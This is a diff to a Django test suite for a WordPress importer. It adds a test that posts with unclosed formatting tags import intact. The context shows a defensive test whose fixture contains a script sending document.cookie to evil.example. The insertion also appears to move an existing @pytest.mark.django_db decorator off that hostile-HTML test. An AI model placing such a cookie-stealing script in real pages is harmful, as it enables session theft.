@@ -24,7 +24,7 @@ from pagecache import store as page_cache
 from pages.models import StandardPage
 from programs.models import ProgramIndexPage, ProgramPage
 from ratings.models import PageRating
-from tests.reading import resources, soup_of, texts_of
+from tests.reading import resources, soup_of, text_of, texts_of
 from tests.wordpress_export import SITE, attachment, item, menu_item, write
 from wordpress.download import DownloadRefused, fetch
 from wordpress.models import ImportedItem
@@ -467,6 +467,26 @@ def test_images_once_each_resized_copies_mapped_and_bad_files_reported(demo, tmp
 
 
 @pytest.mark.django_db
+def test_formatting_left_open_keeps_every_word_and_the_next_items(demo, tmp_path, client):
+    # Classic-editor posts often leave a <b> or <i> open; it must not stop the import.
+    broken = (
+        "<p>Recovery is <b>possible <i>for everyone</p>\n\nCall us <em>today</em>.\n\n"
+        "<h2>What to expect</h2>\n<p>A <strong>warm <em>welcome</p><p>and a plan.</p>"
+    )
+    report, _ = run_import(
+        tmp_path,
+        item(9001, "Left open", slug="left-open", post_type="post", content=broken),
+        item(9002, "Fine post", slug="fine-post", post_type="post", content="<p>All good.</p>"),
+    )
+    assert report["done"]["created"] == {"article (publish)": 2}
+    text = text_of(client.get("/articles/left-open/").text)
+    for words in ("Recovery is possible for everyone", "Call us today", "A warm welcome",
+                  "and a plan"):  # fmt: skip
+        assert words in text, words
+    assert "What to expect" in texts_of(client.get("/articles/left-open/").text, "h2")
+    assert "All good." in text_of(client.get("/articles/fine-post/").text)
+
+
 def test_hostile_html_is_dropped_and_counted(demo, tmp_path, client):
     content = (
         "<p>Before.</p><script>fetch('https://evil.example/?c='+document.cookie)</script>"
